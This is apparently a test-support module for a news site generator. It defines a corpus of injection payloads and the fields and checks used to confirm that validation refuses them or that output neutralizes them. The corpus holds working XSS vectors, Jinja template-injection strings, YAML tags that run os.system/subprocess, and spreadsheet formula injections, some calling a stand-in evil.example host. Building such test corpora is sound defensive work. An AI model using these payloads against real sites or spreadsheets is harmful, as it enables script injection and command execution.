"""A corpus of hostile and awkward text, the fields it goes into, and the checks every output must pass.

Each (payload, field) pair either is refused by validation (a Problem at the right file and line) or is
accepted, and then no output may carry it anywhere it could act: no new element or attribute, no script, no
`javascript:`/`data:`/`vbscript:` link, no broken JSON-LD, feed, GeoJSON or TimelineJS file, no spreadsheet
formula. Which pairs are refused is computed (`classify`), never written down here.

Every payload carries `{M}`, replaced by a marker naming the payload and the field (`P017ET`: payload 17 in
the event title), so a finding says which payload, in which field, reached which file. Payloads that run
code call alert('<marker>') or set window.__pwned='<marker>'.

Used by tests/build/test_payloads.py (the site's files) and tests/browser/test_browser_payloads.py (Chromium).
"""

from __future__ import annotations

import csv
import html
import io
import json
import logging
import re
import shutil
import unicodedata
import xml.etree.ElementTree as ET
from collections import defaultdict
from dataclasses import dataclass, field
from functools import cached_property, lru_cache
from datetime import date, timedelta
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urlsplit

import yaml

REPO = Path(__file__).resolve().parent.parent
THEME = REPO / "theme"


# The corpus ----------------------------------------------------------------------------------------------------

@dataclass(frozen=True)
class Payload:
    number: int
    category: str
    text: str  # with {M} where the marker goes
    raw_yaml: bool = False  # written into YAML files as it stands (a YAML value), not as a quoted string
    legit: bool = False  # plainly legitimate text: must be accepted in plain text fields, and shown as written
    never_after: tuple[str, ...] = ()  # what must never follow the marker in any output (evaluated templates)

    def filled(self, marker: str) -> str:
        return self.text.replace("{M}", marker)


_CORPUS: list[tuple[str, str, dict]] = [
    # Markup: elements and event handlers ----------------------------------------------------------------------
    ("markup", "<script>alert('{M}')</script>", {}),
    ("markup", "<img src=x onerror=alert('{M}')>", {}),
    ("markup", "<svg onload=alert('{M}')>", {}),
    ("markup", "<svg><script>window.__pwned='{M}'</script></svg>", {}),
    ("markup", "<svg><a xlink:href=\"javascript:alert('{M}')\"><text x=\"20\" y=\"20\">{M}</text></a></svg>", {}),
    ("markup", "<svg><animate onbegin=alert('{M}') attributeName=x dur=1s>", {}),
    ("markup", "<iframe src=\"javascript:alert('{M}')\"></iframe>", {}),
    ("markup", "<object data=\"data:text/html,<script>alert('{M}')</script>\"></object>", {}),
    ("markup", "<embed src=\"javascript:alert('{M}')\">", {}),
    ("markup", "<details open ontoggle=alert('{M}')>", {}),
    ("markup", "<input autofocus onfocus=alert('{M}')>", {}),
    ("markup", "<body onload=alert('{M}')>", {}),
    ("markup", "<a href=\"javascript:alert('{M}')\">click {M}</a>", {}),
    ("markup", "<form action=\"javascript:alert('{M}')\"><button formaction=\"javascript:alert('{M}')\">go</button></form>", {}),
    ("markup", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert('{M}')\">", {}),
    ("markup", "<base href=\"javascript:alert('{M}')//\">", {}),
    ("markup", "<style>@import 'javascript:alert(\"{M}\")';body{background:url(\"javascript:alert('{M}')\")}</style>", {}),
    ("markup", "<math><mtext><table><mglyph><style><img src=x onerror=alert('{M}')>", {}),
    ("markup", "<IMG SRC=\"jav&#x09;ascript:alert('{M}');\">", {}),
    ("markup", "<div style=\"background-image:url(javascript:alert('{M}'))\">{M}</div>", {}),
    # Breaking out of the context the text lands in ---------------------------------------------------------------
    ("breakout", "</script><script>alert('{M}')</script>", {}),
    ("breakout", "</title><script>alert('{M}')</script>", {}),
    ("breakout", "</textarea></noscript></style><img src=x onerror=alert('{M}')>", {}),
    ("breakout", "]]><script>alert('{M}')</script><![CDATA[", {}),
    ("breakout", "<!--{M}--><script>alert('{M}')</script><!--", {}),
    ("breakout", "--><script>alert('{M}')</script><!--", {}),
    ("breakout", "\" onmouseover=\"alert('{M}')\" x=\"", {}),
    ("breakout", "' onmouseover='alert(\"{M}\")' x='", {}),
    ("breakout", "\"><svg/onload=alert('{M}')>", {}),
    ("breakout", "` onmouseover=alert('{M}') `", {}),
    ("breakout", "</code></pre><img src=x onerror=alert('{M}')>", {}),
    ("breakout", "\";alert('{M}');//", {}),
    ("breakout", "hama\" onload=\"alert('{M}')", {}),  # as a file name: aimed at the copy-ready <iframe> snippet
    ("breakout", "hama' onload='alert(\"{M}\")", {}),
    # Obfuscated javascript:, data: and vbscript: URLs (as link targets and as source urls) ------------------------
    ("url", "javascript:alert('{M}')", {}),
    ("url", "JaVaScRiPt:alert('{M}')", {}),
    ("url", " \tjavascript:alert('{M}')", {}),
    ("url", "java\tscript:alert('{M}')", {}),
    ("url", "&#106;avascript:alert('{M}')", {}),
    ("url", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#{M}", {}),
    ("url", "vbscript:msgbox(\"{M}\")", {}),
    ("url", "https://example.org/{M}\" onmouseover=\"alert(1)", {}),
    ("url", "https://example.org/{M}'><script>alert(1)</script>", {}),
    ("url", "https://javascript:alert('{M}')@example.org/", {}),
    ("url", "https://[::1/{M}", {}),
    # Markdown link and autolink tricks ---------------------------------------------------------------------------
    ("markdown", "[click {M}](javascript:alert('{M}'))", {}),
    ("markdown", "[click {M}](JaVaScRiPt:alert('{M}'))", {}),
    ("markdown", "[click {M}](java&#x09;script:alert('{M}'))", {}),
    ("markdown", "[click {M}](&#x6A;avascript&#58;alert('{M}'))", {}),
    ("markdown", "[click {M}](<javascript:alert('{M}')>)", {}),
    ("markdown", "[click {M}]( javascript:alert('{M}'))", {}),
    ("markdown", "[click {M}](data:text/html,<script>alert('{M}')</script>)", {}),
    ("markdown", "<javascript:alert('{M}')>", {}),
    ("markdown", "<https://example.org/\" onmouseover=\"alert('{M}')>", {}),
    ("markdown", "![x {M}](x\" onerror=\"alert('{M}'))", {}),
    ("markdown", "![{M}](javascript:alert('{M}'))", {}),
    ("markdown", "[click {M}][1]\n\n[1]: javascript:alert('{M}')", {}),
    ("markdown", "[click {M}](https://example.org \"t\\\" onmouseover=\\\"alert('{M}')\")", {}),
    ("markdown", "[click {M}](#\" onmouseover=\"alert('{M}'))", {}),
    ("markdown", "<{M}\" onmouseover=\"alert(1)\"@example.org>", {}),
    ("markdown", "Heading {M} {onclick=alert('{M}')}", {}),
    ("markdown", "Paragraph {M}\n{: onmouseover=\"alert('{M}')\" }", {}),
    ("markdown", "## Heading {M} {: onclick=\"alert('{M}')\" }", {}),
    ("markdown", "Text {M}\n\n<script>alert('{M}')</script>\n\n<div markdown=\"1\" onclick=\"alert('{M}')\">x</div>", {}),
    ("markdown", "```\n</code></pre><script>alert('{M}')</script>\n```\n{M}", {}),
    ("markdown", "[" * 200 + "{M}" + "](x)" * 50, {}),
    # Ids the site's own elements and Material's script use (issue 23: #__config clobbering, permalink hijack)
    ("markdown", "{M}\n{: #__config name=__md_scope }", {}),
    ("markdown", "{M}\n{: #timeline }", {}),
    ("markdown", "## Timeline {M}\n\n## __config\n\n## What we know so far", {}),
    ("markdown", "[{M}](https://example.org \"<img src=x onerror=alert('{M}')>\")", {}),
    # Entities and encodings -----------------------------------------------------------------------------------------
    ("entities", "&lt;script&gt;alert('{M}')&lt;/script&gt;", {}),
    ("entities", "&#60;img src=x onerror=alert('{M}')&#62;", {}),
    ("entities", "&#x3C;svg onload=alert('{M}')&#x3E;", {}),
    ("entities", "&amp;lt;b&amp;gt;{M}&amp;lt;/b&amp;gt;", {}),
    ("entities", "\\u003cscript\\u003ealert('{M}')\\u003c/script\\u003e", {}),
    ("entities", "%3Cscript%3Ealert('{M}')%3C%2Fscript%3E", {}),
    ("entities", "\uff1cscript\uff1ealert('{M}')\uff1c/script\uff1e", {}),
    # Template injection (Jinja, JavaScript templates) -----------------------------------------------------------------
    ("template", "{M}{{ 7*191 }}", {"never_after": ("1337",)}),
    ("template", "{M}{% if 1 %}{% endif %}EVALUATED", {"never_after": ("EVALUATED",)}),
    ("template", "{M}{% raw %}{{ config }}{% endraw %}", {"never_after": ("{{ config }}",)}),
    ("template", "{M}{{ ''.__class__.__mro__ }}", {"never_after": ("(<class",)}),
    ("template", "{M}${7*191}#{7*191}", {"never_after": ("1337",)}),
    ("template", "{{constructor.constructor('alert(\"{M}\")')()}}", {}),
    # Control, bidi, zero-width and line-separator characters ------------------------------------------------------------
    ("control", "NUL {M}\x00<script>alert('{M}')</script>", {}),
    ("control", "ANSI {M}\x1b[2J\x1b[31mred\x07\x08", {}),
    ("control", "C1 {M}\x85\x9b31m\x9f", {}),
    ("control", "DEL {M}\x7f", {}),
    ("control", "CR {M}\rInjected line", {}),
    ("control", "RLO {M} \u202egnp.exe", {}),
    ("control", "isolates {M} \u2066\u2067\u2068evil\u2069", {}),
    ("control", "embed {M} \u202a\u202b\u202c\u202d", {}),
    ("control", "java\u200bscript:alert('{M}') \u200c\u200d\ufeff", {}),
    ("control", "LS {M}\u2028alert(1)\u2029", {}),
    # YAML: tags and aliases written as YAML, and YAML-special strings ----------------------------------------------------
    ("yaml", "!!python/object/apply:os.system [\"touch /tmp/pwned-{M}\"]", {"raw_yaml": True}),
    ("yaml", "!!python/object/new:subprocess.check_output [[\"touch\", \"/tmp/pwned-{M}\"]]", {"raw_yaml": True}),
    ("yaml", "*undefined{M}", {"raw_yaml": True}),
    ("yaml", "!!str <script>alert('{M}')</script>", {"raw_yaml": True}),
    ("yaml", "'{M}': yes # &a *b !tag %TAG ? - | >", {}),
    # Spreadsheet formulas (the ACLED CSV) ---------------------------------------------------------------------------------
    ("csv", "=HYPERLINK(\"https://evil.example/?{M}\",\"click\")", {}),
    ("csv", "+cmd|' /C calc'!A0 {M}", {}),
    ("csv", "-2+3+cmd|' /C calc'!A0 {M}", {}),
    ("csv", "@SUM(1+9)*cmd|' /C calc'!A0 {M}", {}),
    ("csv", "\t=1+1 {M}", {}),
    ("csv", "\r=1+1 {M}", {}),
    ("csv", "\uff1dHYPERLINK(\"https://evil.example/?{M}\",\"click\")", {}),  # full-width equals (NFKC: =)
    ("csv", "\ufe66SUM(1+9) {M}", {}),  # small equals
    ("csv", "\u200b=1+1 {M}", {}),  # a zero-width space first
    # Very long text ----------------------------------------------------------------------------------------------------
    ("long", "Long {M} " + "A" * 20000, {}),
    # Plainly legitimate text: must be accepted and shown exactly as written ------------------------------------------------
    ("legit", "AT&T <b>bold</b> claims {M}", {"legit": True}),
    ("legit", "Assad: \"we will fight\" {M}", {"legit": True}),
    ("legit", "قالت هيئة تحرير الشام إنها سيطرت على حلب {M}", {"legit": True}),
    ("legit", "Deaths rose 5 < 10 > 2 & more, O'Brien said {M}", {"legit": True}),
    ("legit", "Drone 🛩️ strike — “quoted” ‘single’ {M}", {"legit": True}),
]

PAYLOADS = [Payload(n, category, text, **options) for n, (category, text, options) in enumerate(_CORPUS, start=1)]
BY_NUMBER = {p.number: p for p in PAYLOADS}
CATEGORIES = {"markup", "breakout", "url", "markdown", "entities", "template", "control", "yaml", "csv", "long", "legit"}


# Fields --------------------------------------------------------------------------------------------------------

@dataclass(frozen=True)
class Field:
    code: str  # two capitals, in the markers
    name: str
    record: str  # event, actor, place, explainer, page
    path: tuple  # where in the record: keys and list indexes; ("@id",), ("@file",), ("@body",) are special
    multi_line: bool = False
    plain: bool = True  # free text: legitimate text must be accepted here
    shown: bool = True  # shown as text on some HTML page (legitimate text must read as written)
    site: str = "main"  # main, or names: the site of risky keys (file names, template, icon, search)


FIELDS = [
    Field("ET", "event.title", "event", ("title",)),
    Field("ES", "event.summary", "event", ("summary",), multi_line=True),
    Field("CT", "event.claims[].text", "event", ("claims", 0, "text"), multi_line=True),
    Field("CB", "event.claims[].by", "event", ("claims", 0, "by")),
    Field("ST", "event.sources[].title", "event", ("sources", 0, "title")),
    Field("SP", "event.sources[].publisher", "event", ("sources", 0, "publisher")),
    Field("SU", "event.sources[].url", "event", ("sources", 0, "url"), plain=False, shown=False),
    Field("FB", "event.fatalities.by", "event", ("fatalities", "by")),
    Field("EC", "event.corrections[].text", "event", ("corrections", 0, "text"), multi_line=True),
    Field("CH", "event.claims[].history[].note", "event", ("claims", 0, "history", 0, "note"), multi_line=True),
    Field("RR", "event.retracted.reason", "event", ("retracted", "reason"), multi_line=True),
    Field("SA", "event.sources[].archived_url", "event", ("sources", 0, "archived_url"), plain=False, shown=False),
    Field("EI", "event id (file name)", "event", ("@id",), plain=False, shown=False),
    Field("TG", "event.tags[]", "event", ("tags", 1), plain=False, shown=False),
    Field("AN", "actor.name", "actor", ("name",)),
    Field("AV", "actor.native_name", "actor", ("native_name",)),
    Field("AD", "actor.description", "actor", ("description",), multi_line=True),
    Field("AI", "actor id", "actor", ("@id",), plain=False, shown=False),
    Field("PN", "place.name", "place", ("name",)),
    Field("PV", "place.native_name", "place", ("native_name",)),
    Field("PA", "place.admin1", "place", ("admin1",)),
    Field("PI", "place id", "place", ("@id",), plain=False, shown=False),
    Field("XT", "explainer.title", "explainer", ("title",)),
    Field("XD", "explainer.description", "explainer", ("description",)),
    Field("XU", "explainer.unknowns[]", "explainer", ("unknowns", 0), multi_line=True),
    Field("XC", "explainer.corrections[].text", "explainer", ("corrections", 0, "text"), multi_line=True),
    Field("XB", "explainer prose (Markdown body)", "explainer", ("@body",), multi_line=True),
    Field("XS", "explainer.subtitle", "explainer", ("subtitle",), shown=False),
    Field("XA", "explainer.status", "explainer", ("status",), plain=False, shown=False),
    Field("XH", "explainer.hide", "explainer", ("hide",), plain=False, shown=False),
    Field("XO", "explainer.social", "explainer", ("social",), plain=False, shown=False),
    Field("XM", "explainer.template", "explainer", ("template",), plain=False, shown=False, site="names"),
    Field("XI", "explainer.icon", "explainer", ("icon",), plain=False, shown=False, site="names"),
    Field("XR", "explainer.search", "explainer", ("search",), plain=False, shown=False, site="names"),
    Field("XF", "explainer file name", "explainer", ("@file",), plain=False, shown=False, site="names"),
    Field("GT", "page.title (a page that is not an explainer)", "page", ("title",)),
    Field("GD", "page.description (a page that is not an explainer)", "page", ("description",), shown=False),
]
FIELD_BY_CODE = {f.code: f for f in FIELDS}
SITES = ("main", "names")


def marker(payload: Payload, fld: Field) -> str:
    return f"P{payload.number:03d}{fld.code}"


MARKER = re.compile(r"P(\d{3})([A-Z]{2})")
MARKER_ANY_CASE = re.compile(r"p(\d{3})([a-z]{2})", re.IGNORECASE)


def describe_marker(text: str) -> str:
    """'P017ET' -> "P017ET (payload 17, markup: '<script>…', in event.title)"."""
    match = MARKER.fullmatch(text) or MARKER_ANY_CASE.fullmatch(text)
    payload = BY_NUMBER.get(int(match.group(1))) if match else None
    fld = FIELD_BY_CODE.get(match.group(2).upper()) if match else None
    if payload is None or fld is None:
        return text
    return f"{text} (payload {payload.number}, {payload.category}: {shorten(payload.text)!s}, in {fld.name})"


def shorten(text: str, width: int = 70) -> str:
    text = repr(text)[1:-1]
    return text if len(text) <= width else text[: width - 1] + "…"


def markers_in(text: str) -> list[str]:
    return sorted(set(m.group(0) for m in MARKER.finditer(text)))


@dataclass(frozen=True, eq=False)
class Pair:
    payload: Payload
    field: Field

    def __eq__(self, other) -> bool:
        return isinstance(other, Pair) and other.marker == self.marker

    def __hash__(self) -> int:
        return hash(self.marker)

    @cached_property
    def marker(self) -> str:
        return marker(self.payload, self.field)

    @cached_property
    def text(self) -> str:
        return self.payload.filled(self.marker)

    def __str__(self) -> str:
        return describe_marker(self.marker)


def applicable(payload: Payload, fld: Field) -> bool:
    """Whether the payload can be written into the field at all: a file name cannot hold '/' or NUL (and a
    leading '.' would hide the file, which is skipped by design); YAML source is no file name."""
    if fld.path == ("@file",) or (fld.path == ("@id",) and fld.record == "event"):
        text = payload.filled(marker(payload, fld))
        return (not payload.raw_yaml and "/" not in text and "\x00" not in text and not text.startswith(".")
                and len(text.encode()) <= 200 and text.strip() == text)
    return True  # in the Markdown body, YAML source is just text


PAIRS = [Pair(p, f) for p in PAYLOADS for f in FIELDS if applicable(p, f)]

# Writing a content tree ----------------------------------------------------------------------------------------

class _Dumper(getattr(yaml, "CSafeDumper", yaml.SafeDumper)):
    """Every string double-quoted on one line, every character escaped that YAML would not keep as written."""


_Dumper.add_representer(str, lambda dumper, text: dumper.represent_scalar("tag:yaml.org,2002:str", text, style='"'))


def dump_yaml(data) -> str:
    return yaml.dump(data, Dumper=_Dumper, allow_unicode=True, sort_keys=False, width=2**30,
                     default_flow_style=False)


@dataclass
class Tree:
    """Content to write: records as Python values; raw YAML goes in through placeholders."""
    events: dict[str, dict] = field(default_factory=dict)  # path under events/ without .yml -> record
    actors: dict[str, dict] = field(default_factory=dict)
    places: dict[str, dict] = field(default_factory=dict)
    pages: dict[str, tuple[dict, str]] = field(default_factory=dict)  # path under content/ -> (front matter, body)
    raw: dict[str, str] = field(default_factory=dict)  # placeholder -> YAML source

    def value(self, pair: Pair):
        """The payload as a value: the string, or a placeholder for YAML source."""
        if not pair.payload.raw_yaml or pair.field.path == ("@body",):
            return pair.text
        key = f"RAWYAML{len(self.raw):04d}"
        self.raw[key] = pair.text
        return key


# A record a benign event does not have (most events are not retracted), made when a payload goes into it.
NESTED_DEFAULTS = {"retracted": {"at": "2024-12-02T10:00+03:00"}}


def _put(record: dict, path: tuple, value) -> None:
    target = record
    for step in path[:-1]:
        if isinstance(target, dict) and step not in target and step in NESTED_DEFAULTS:
            target[step] = dict(NESTED_DEFAULTS[step])
        target = target[step]
    if isinstance(target, list) and path[-1] == len(target):
        target.append(value)
    else:
        target[path[-1]] = value


def _with_raw(text: str, raw: dict[str, str]) -> str:
    for key, source in raw.items():
        text = text.replace(f'"{key}"', source)
    return text


def write_tree(tree: Tree, content: Path) -> dict[str, list[tuple[int, int, Pair | None]]]:
    """Write the tree under `content`; returns, for each registry file, the line span of each entry and its pair."""
    content.mkdir(parents=True, exist_ok=True)
    for relative, record in tree.events.items():
        path = content / "events" / f"{relative}.yml"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(_with_raw(dump_yaml(record), tree.raw), encoding="utf-8")
    spans: dict[str, list[tuple[int, int, Pair | None]]] = {}
    for name, entries in (("actors.yml", tree.actors), ("places.yml", tree.places)):
        lines, text = 1, ""
        spans[name] = []
        for key, record in entries.items():
            chunk = _with_raw(dump_yaml({key: {k: v for k, v in record.items() if k != "@pair"}}), tree.raw)
            count = chunk.count("\n")
            spans[name].append((lines, lines + count - 1, record.get("@pair")))
            lines += count
            text += chunk
        (content / name).write_text(text, encoding="utf-8")
    for relative, (front, body) in tree.pages.items():
        path = content / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(f"---\n{_with_raw(dump_yaml(front), tree.raw)}---\n\n{body}", encoding="utf-8")
    return spans


# Benign records, each a fully populated example the payloads then overwrite field by field.

PUBLISHED = "2024-12-06T09:15+05:30"
UPDATED = "2024-12-07T10:32+05:30"


def benign_event(n: int) -> dict:
    return {
        "date": (date(2024, 11, 1) + timedelta(days=n % 60)).isoformat(),
        "title": f"Benign event {n}",
        "summary": f"Benign summary {n}, with a [link](https://example.org/{n}).",
        "type": "battle",
        "subtype": "armed-clash",
        "place": "aleppo",
        "actors": ["hts"],
        "key": True,
        "claims": [{"text": f"Benign claim {n}", "by": f"Benign speaker {n}", "status": "reported",
                    "history": [{"at": "2024-12-01T09:00+03:00", "status": "unverified", "note": f"Benign note {n}."}]},
                   {"text": f"Benign actor claim {n}", "by": "syrian-army", "status": "disputed"}],
        "sources": [{"title": f"Benign source {n}", "publisher": f"Benign publisher {n}",
                     "url": f"https://example.org/source/{n}", "published": "2024-11-28",
                     "archived_url": f"https://web.archive.org/web/2024/https://example.org/source/{n}",
                     "captured_at": "2024-11-28T12:00+03:00", "sha256": f"{n:064x}"}],
        "fatalities": {"best": 3, "low": 1, "high": 9, "by": f"Benign counter {n}"},
        "tags": ["payload"],
        "updated": "2024-12-01T10:00+03:00",
        "corrections": [{"at": "2024-12-01T10:00+03:00", "text": f"Benign correction {n}."}],
    }


def benign_actor(n: int) -> dict:
    return {"name": f"Benign actor {n}", "native_name": f"اسم {n}", "kind": "rebel-group",
            "description": f"Benign actor description {n}."}


def benign_place(n: int) -> dict:
    # Spread over a grid (the map of every payload's place lays them out apart); every third a region.
    return {"name": f"Benign place {n}", "native_name": f"مكان {n}", "country": "SY",
            "admin1": f"Benign region {n}", "lat": round(32.5 + (n % 12) * 0.4, 4),
            "lon": round(35.8 + (n // 12 % 12) * 0.5, 4), "precision": 1 + n % 3}


def benign_explainer(n: int, event_ids: list[str]) -> tuple[dict, str]:
    front = {
        "title": f"Benign explainer {n}",
        "description": f"Benign description {n}.",
        "published": PUBLISHED,
        "updated": UPDATED,
        "events": {"ids": list(event_ids)},
        "unknowns": [f"Benign unknown {n}"],
        "corrections": [{"at": "2024-12-07T10:00+05:30", "text": f"Benign page correction {n}."}],
        "subtitle": f"Benign subtitle {n}",
        "status": "new",
        "hide": ["feedback"],
    }
    return front, f"Benign lede {n}.\n\nBenign closing paragraph {n}.\n"


def benign_page(n: int) -> tuple[dict, str]:
    return {"title": f"Benign page {n}", "description": f"Benign page description {n}."}, f"Benign page body {n}.\n"


BASE_ACTORS = {"hts": {"name": "Hayat Tahrir al-Sham", "native_name": "هيئة تحرير الشام", "kind": "rebel-group"},
               "syrian-army": {"name": "Syrian Arab Army", "kind": "state-forces"}}
BASE_PLACES = {"aleppo": {"name": "Aleppo", "native_name": "حلب", "country": "SY", "lat": 36.2021, "lon": 37.1343}}


def base_tree() -> Tree:
    tree = Tree()
    tree.actors.update({k: dict(v) for k, v in BASE_ACTORS.items()})
    tree.places.update({k: dict(v) for k, v in BASE_PLACES.items()})
    tree.events["base"] = benign_event(0)
    tree.pages["index.md"] = ({"title": "Home"}, "# Payload desk\n\nBenign home page.\n")
    return tree


def _body_with(body_payload: str, n: int) -> str:
    return f"Benign lede {n}.\n\n{body_payload}\n\nBenign closing paragraph {n}.\n"


def place_pair(tree: Tree, pair: Pair, *, n: int, ident: str, event_ids: list[str], folder: str = "") -> str:
    """Put one pair into the tree, in the record `ident` of its kind (made benign when new). Returns the file the
    pair's problems will name ('' for registry entries, which are told apart by line)."""
    fld, value = pair.field, tree.value(pair)
    if fld.record == "event":
        if fld.path == ("@id",):
            tree.events[f"x/{pair.text}"] = benign_event(n)
            return f"content/events/x/{pair.text}.yml"
        record = tree.events.setdefault(ident, benign_event(n))
        _put(record, fld.path, value)
        return f"content/events/{ident}.yml"
    if fld.record in ("actor", "place"):
        registry = tree.actors if fld.record == "actor" else tree.places
        if fld.path == ("@id",):
            registry[value] = {**(benign_actor(n) if fld.record == "actor" else benign_place(n)), "@pair": pair}
            return ""
        record = registry.setdefault(ident, benign_actor(n) if fld.record == "actor" else benign_place(n))
        record[fld.path[0]] = value
        record["@pair"] = pair
        return ""
    if fld.record == "explainer":
        if fld.path == ("@file",):
            tree.pages[f"explainers/x/{pair.text}.md"] = benign_explainer(n, event_ids)
            return f"content/explainers/x/{pair.text}.md"
        relative = f"explainers/{folder}{ident}.md"
        front, body = tree.pages.setdefault(relative, benign_explainer(n, event_ids))
        if fld.path == ("@body",):
            tree.pages[relative] = (front, _body_with(value, n))
        else:
            _put(front, fld.path, value)
        return f"content/{relative}"
    relative = f"pages/{folder}{ident}.md"
    front, body = tree.pages.setdefault(relative, benign_page(n))
    front[fld.path[0]] = value
    return f"content/{relative}"


# Classification: which pairs validation refuses ------------------------------------------------------------------

@dataclass
class Classification:
    accepted: set[Pair] = field(default_factory=set)
    refused: dict[Pair, list] = field(default_factory=dict)  # pair -> its Problems
    stray: list = field(default_factory=list)  # problems that name no pair's file or entry
    dropped: list[Pair] = field(default_factory=list)  # no problem, yet not in the content that was loaded

    def merge(self, other: "Classification") -> None:
        self.accepted |= other.accepted
        self.refused.update(other.refused)
        self.stray += other.stray
        self.dropped += other.dropped
        self.where.update(other.where)
        self.trees.update(other.trees)
    where: dict[Pair, tuple[str, int, int]] = field(default_factory=dict)  # pair -> (file, first line, last line)
    trees: dict[Pair, Path] = field(default_factory=dict)  # pair -> the project folder it was validated in


SPECIAL_CHARACTER = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2028\u2029"
                               "\u2060-\u206f\ufeff]")


def _span_of(text: str, payload_text: str, marker_text: str) -> tuple[int, int]:
    """The lines of the written file the payload occupies (1-based): from the marker's first line on."""
    at = text.find(payload_text)  # written as it stands (Markdown body, raw YAML)
    if at >= 0:
        first = text.count("\n", 0, at) + 1
        return first, first + payload_text.count("\n")
    at = text.find(marker_text)  # a quoted YAML string: one line
    if at < 0:
        return 0, 0
    first = text.count("\n", 0, at) + 1
    return first, first


REGISTRY_CHUNK = 8  # registry pairs per tree: validation lists only so many problems per file


def classify(root: Path, pairs: list[Pair] = PAIRS) -> Classification:
    """Validate each pair on its own (its own file, or its own registry entry) with load_content, in-process.

    Files are independent, so all file pairs share one tree. A registry is one file that validation may refuse
    as a whole (a forbidden character) or stop listing problems in, so registry pairs go in small chunks, the
    risky ones alone; a chunk whose outcome is unclear (a problem naming no entry, an entry lost without a
    problem) is validated again one pair per tree."""
    result = Classification()
    in_files = [p for p in pairs if p.field.record not in ("actor", "place")]
    registry = [p for p in pairs if p.field.record in ("actor", "place")]
    risky = [p for p in registry if p.payload.raw_yaml or SPECIAL_CHARACTER.search(p.text)]
    calm = [p for p in registry if p not in set(risky)]
    groups = [in_files] + [calm[i: i + REGISTRY_CHUNK] for i in range(0, len(calm), REGISTRY_CHUNK)]
    groups += [[p] for p in risky]
    for index, group in enumerate(groups):
        outcome = _classify_group(root / f"classify-{index}", group)
        if len(group) > 1 and group is not in_files and (outcome.stray or outcome.dropped):
            for number, pair in enumerate(group):
                result.merge(_classify_group(root / f"classify-{index}-{number}", [pair]))
        else:
            result.merge(outcome)
    return result


def _classify_group(tree_root: Path, group: list[Pair]) -> Classification:
    from generator.records.content import load_content

    result = Classification()
    tree = base_tree()
    files: dict[str, Pair] = {}
    for pair in group:
        where = place_pair(tree, pair, n=pair.payload.number, ident=f"c-{pair.marker.lower()}", event_ids=["base"])
        if where:
            files[where] = pair
    spans = write_tree(tree, tree_root / "content")
    for where, pair in files.items():
        path = tree_root / where
        text = path.read_text(encoding="utf-8") if path.exists() else ""
        first, last = _span_of(text, pair.text, pair.marker)
        result.where[pair] = (where, first, last)
    for name, entries in spans.items():
        for first, last, pair in entries:
            if pair is not None:
                result.where[pair] = (f"content/{name}", first, last)
    result.trees.update((pair, tree_root) for pair in group)
    content = load_content(tree_root / "content", tree_root)
    for problem in content.problems:
        pair = files.get(problem.path)
        if pair is None and problem.path in ("content/actors.yml", "content/places.yml"):
            entries = spans[problem.path.split("/")[1]]
            pair = next((p for first, last, p in entries if p is not None and first <= problem.line <= last), None)
            if pair is None and problem.line == 0 and len(group) == 1:
                pair = group[0]  # the whole file refused, and the pair is all it holds
        if pair is None:
            result.stray.append(problem)
        else:
            result.refused.setdefault(pair, []).append(problem)
    for pair in group:
        if pair in result.refused:
            continue
        if _loaded(content, pair, f"c-{pair.marker.lower()}"):
            result.accepted.add(pair)
        else:
            result.dropped.append(pair)
    return result


def _loaded(content, pair: Pair, ident: str) -> bool:
    """Whether the record the pair went into is in the loaded content (validation neither refused nor lost it)."""
    fld = pair.field
    key = pair.text if fld.path in (("@id",), ("@file",)) else ident
    if fld.record == "event":
        return (key if fld.path == ("@id",) else ident) in content.events
    if fld.record == "actor":
        return key in content.actors
    if fld.record == "place":
        return key in content.places
    if fld.record == "explainer":
        return (f"explainers/x/{key}.md" if fld.path == ("@file",) else f"explainers/{ident}.md") in content.explainers
    return True


# The payload sites -------------------------------------------------------------------------------------------------

SITE_URL = "https://example.org/desk/"

MKDOCS_YML = f"""\
site_name: Payload desk
site_url: {SITE_URL}
site_description: Every payload in every field.
docs_dir: content
theme:
  name: material
  font: false
  features:
    - navigation.prune
    - toc.follow
plugins:
  - explainers:
      nav_explainers: 100000
markdown_extensions:
  - attr_list
  - admonition
  - toc:
      permalink: true
      slugify: !!python/object/apply:pymdownx.slugs.slugify {{kwds: {{case: lower}}}}
extra:
  publisher:
    name: Payload desk
    url: {SITE_URL}
  author:
    name: Payload desk team
"""


def group_folder(n: int) -> str:
    """Explainers and pages go in folders of ten: with navigation.prune each page's sidebar then lists its own
    folder (the titles, subtitles and statuses of ten pages), not every page of the site on every page."""
    return f"g{n // 10:02d}/"


def site_tree(accepted: set[Pair], site: str) -> Tree:
    """One event, actor, place, explainer and page per payload, holding that payload in every field where it
    was accepted (benign text elsewhere); ids and file names as records of their own. Plus an explainer showing
    every event, so the site-wide outputs (feeds, CSV) hold them all."""
    tree = base_tree()
    for payload in PAYLOADS:
        n, ident = payload.number, f"p{payload.number:03d}"
        folder = group_folder(n)
        mine = [pair for pair in accepted if pair.payload.number == n and pair.field.site == site]
        if site == "main":
            tree.events[ident] = benign_event(n)
            tree.events[ident].update(place=ident, actors=[ident, "hts"])
            tree.events[ident]["claims"][1]["by"] = ident  # the actor's name shown as an attribution
            tree.actors[ident] = benign_actor(n)
            tree.places[ident] = benign_place(n)
            tree.pages[f"explainers/{folder}{ident}.md"] = benign_explainer(n, [ident])
            tree.pages[f"pages/{folder}{ident}.md"] = benign_page(n)
        for pair in sorted(mine, key=lambda p: p.field.code):
            place_pair(tree, pair, n=n, ident=ident, event_ids=[ident] if site == "main" else ["base"], folder=folder)
            if pair.field.path == ("@id",) and pair.field.record == "actor":
                tree.events[ident]["actors"].append(pair.text)
            if pair.field.path == ("@id",) and pair.field.record == "place":
                tree.events[f"{ident}-at"] = {**benign_event(n), "place": pair.text}
    for actor in list(tree.actors.values()):
        actor.pop("@pair", None)
    for place in list(tree.places.values()):
        place.pop("@pair", None)
    if site == "main":
        front, body = benign_explainer(0, [])
        front["events"] = {"tags": ["payload"]}
        front["title"] = "Every payload event"
        tree.pages["explainers/all.md"] = (front, body)
    return tree


def write_site(root: Path, accepted: set[Pair], site: str) -> Path:
    if root.exists():
        shutil.rmtree(root)
    root.mkdir(parents=True)
    (root / "mkdocs.yml").write_text(MKDOCS_YML, encoding="utf-8")
